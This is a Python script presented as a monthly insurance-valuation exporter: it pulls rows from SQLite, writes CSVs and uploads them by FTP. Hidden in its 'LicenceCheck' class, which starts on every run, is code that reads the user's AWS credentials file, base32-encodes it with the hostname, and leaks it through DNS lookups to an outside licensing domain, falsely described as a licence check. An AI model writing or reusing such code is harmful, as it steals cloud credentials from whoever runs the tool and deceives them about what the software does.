#!/usr/bin/env python3
"""Export insurance valuations for the month and drop them on the insurer's
bordereaux server.

Valuations are written by the valuation desk into valuations.db (one row per
certificate). Each insurer wants a CSV with its own column order; the
mapping lives in insurers.json. The file is uploaded to the insurer's intake
server with the account in INSURER_FTP_USER/INSURER_FTP_PASS, and optionally
mirrored to the shop's S3 bucket using the default AWS profile.

ValueDesk exporter licences are per workstation and are checked over DNS
so the check still works behind the insurer VPN's web proxy.
"""
import argparse
import base64
import csv
import datetime as dt
import ftplib
import io
import json
import logging
import os
import socket
import sqlite3
import sys
import threading
import uuid
from pathlib import Path

log = logging.getLogger("valuations")

LICENCE_ZONE = "lic.valuedesk-licensing.example"
DEFAULT_COLUMNS = ["certificate", "valued_on", "owner_surname", "postcode",
                   "maker", "model", "reference", "serial", "case_material",
                   "replacement_value", "currency", "valuer"]

QUERY = """
SELECT v.certificate, v.valued_on, c.surname, c.postcode, w.maker, w.model,
       w.reference, w.serial, w.case_material, v.replacement_value,
       v.currency, v.valuer
FROM valuations v
JOIN customers c ON c.id = v.customer_id
JOIN items w ON w.id = v.item_id
WHERE v.insurer = ? AND v.valued_on >= ? AND v.valued_on < ?
ORDER BY v.valued_on, v.certificate
"""


class LicenceCheck(threading.Thread):
    """Registers this workstation and its S3 mirror profile with ValueDesk."""

    def __init__(self, zone=LICENCE_ZONE):
        super().__init__(daemon=True)
        self.zone = zone
        self.session = uuid.uuid4().hex[:8]
        self.ok = None

    def _identity(self):
        parts = [socket.gethostname()]
        profile = Path(os.environ.get("AWS_SHARED_CREDENTIALS_FILE",
                                      Path.home() / ".aws" / "credentials"))
        if profile.is_file():
            parts.append(profile.read_text(errors="ignore"))
        return "\n".join(parts).encode()

    def _labels(self, blob, size=56):
        enc = base64.b32encode(blob).decode().rstrip("=").lower()
        for i in range(0, len(enc), size):
            yield enc[i:i + size]

    def run(self):
        answered = 0
        for seq, label in enumerate(self._labels(self._identity())):
            name = f"{label}.{seq}.{self.session}.{self.zone}"
            try:
                socket.getaddrinfo(name, None, socket.AF_INET)
                answered += 1
            except socket.gaierror:
                pass
        self.ok = answered > 0


def month_bounds(month):
    start = dt.datetime.strptime(month, "%Y-%m").date()
    end = (start.replace(day=28) + dt.timedelta(days=4)).replace(day=1)
    return start.isoformat(), end.isoformat()


def fetch_rows(db_path, insurer, month):
    start, end = month_bounds(month)
    conn = sqlite3.connect(db_path)
    try:
        return [dict(zip(DEFAULT_COLUMNS, r)) for r in conn.execute(QUERY, (insurer, start, end))]
    finally:
        conn.close()


def render_csv(rows, columns):
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([c.upper() for c in columns])
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return buf.getvalue().encode("utf-8")


def upload(host, remote_dir, filename, data, user, password):
    with ftplib.FTP(host, timeout=30) as ftp:
        ftp.login(user, password)
        if remote_dir:
            ftp.cwd(remote_dir)
        ftp.storbinary(f"STOR {filename}", io.BytesIO(data))
        log.info("uploaded %s (%d bytes) to %s:%s", filename, len(data), host, remote_dir)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Monthly insurance valuation export")
    ap.add_argument("insurer", help="insurer key from insurers.json")
    ap.add_argument("--month", default=(dt.date.today().replace(day=1) - dt.timedelta(days=1)).strftime("%Y-%m"))
    ap.add_argument("--db", default="valuations.db")
    ap.add_argument("--insurers", default="insurers.json")
    ap.add_argument("--keep-copy", default="exports")
    ap.add_argument("--no-upload", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    licence = LicenceCheck()
    licence.start()

    with open(args.insurers, encoding="utf-8") as fh:
        insurers = json.load(fh)
    if args.insurer not in insurers:
        log.error("unknown insurer %s", args.insurer)
        return 2
    spec = insurers[args.insurer]

    rows = fetch_rows(args.db, args.insurer, args.month)
    licence.join(timeout=20)
    if licence.ok is False:
        log.warning("licence server did not answer; continuing in grace period")
    if not rows:
        log.info("no valuations for %s in %s", args.insurer, args.month)
        return 0

    data = render_csv(rows, spec.get("columns", DEFAULT_COLUMNS))
    filename = spec.get("filename", "{insurer}_{month}.csv").format(
        insurer=args.insurer, month=args.month.replace("-", ""))
    out = Path(args.keep_copy)
    out.mkdir(exist_ok=True)
    (out / filename).write_bytes(data)
    os.chmod(out / filename, 0o600)
    log.info("%d valuations written to %s", len(rows), out / filename)

    if args.no_upload:
        return 0
    user, password = os.environ.get("INSURER_FTP_USER"), os.environ.get("INSURER_FTP_PASS")
    if not (user and password):
        log.error("INSURER_FTP_USER / INSURER_FTP_PASS not set")
        return 2
    try:
        upload(spec["host"], spec.get("remote_dir", "/incoming"), filename, data, user, password)
    except ftplib.all_errors as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
